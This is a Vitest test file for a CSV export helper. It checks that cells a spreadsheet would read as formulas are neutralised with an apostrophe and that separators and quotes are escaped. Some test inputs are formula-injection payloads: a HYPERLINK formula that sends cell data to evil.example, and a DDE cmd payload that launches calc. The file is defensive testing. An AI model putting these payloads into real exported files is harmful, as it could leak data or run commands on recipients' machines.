import { describe, expect, it } from 'vitest';
import { csvCell, csvLine, csvLines } from './csv.ts';

describe('csvCell', () => {
  it('puts an apostrophe before every text a spreadsheet would read as a formula', () => {
    expect(csvCell('=HYPERLINK("https://evil.example/?d="&A1,"Open")')).toBe(
      `"'=HYPERLINK(""https://evil.example/?d=""&A1,""Open"")"`,
    );
    expect(csvCell('+33 6 12 34 56 78')).toBe("'+33 6 12 34 56 78");
    expect(csvCell("-2+3+cmd|' /C calc'!A0")).toBe("'-2+3+cmd|' /C calc'!A0");
    expect(csvCell('@SUM(1+1)')).toBe("'@SUM(1+1)");
    expect(csvCell('\t=1+1')).toBe(`"'\t=1+1"`);
    expect(csvCell('\r=1+1')).toBe(`"'\r=1+1"`);
    expect(csvCell('\n=1+1')).toBe(`"'\n=1+1"`);
    expect(csvCell('\0=1+1')).toBe("'\0=1+1");
    expect(csvCell('  =1+1')).toBe("'  =1+1");
    expect(csvCell('\uff1d1+1')).toBe("'\uff1d1+1");
  });

  it('leaves plain text, numbers and booleans as they are', () => {
    expect(csvCell('Mia Member')).toBe('Mia Member');
    expect(csvCell('a=b, said @mia')).toBe('"a=b, said @mia"');
    expect(csvCell("'already text")).toBe("'already text");
    expect(csvCell(-12.5)).toBe('-12.5');
    expect(csvCell(true)).toBe('true');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell('')).toBe('');
  });

  it('quotes a cell holding a quote, a line break or any common separator, whatever the separator', () => {
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\r\nlines')).toBe('"two\r\nlines"');
    // Read with another separator than it was written with, the cell still cannot split into a formula.
    expect(csvCell('Mia;=1+1', ',')).toBe('"Mia;=1+1"');
    expect(csvCell('Mia,=1+1', ';')).toBe('"Mia,=1+1"');
    expect(csvCell('Mia\t=1+1', ',')).toBe('"Mia\t=1+1"');
    expect(csvCell('a|b', '|')).toBe('"a|b"');
  });

  it('writes lines and files with CRLF', () => {
    expect(csvLine(['time', '=talker', 1.5], ';')).toBe("time;'=talker;1.5");
    expect(
      csvLines([
        ['a', 'b'],
        ['-c', null],
      ]),
    ).toBe("a,b\r\n'-c,\r\n");
  });
});
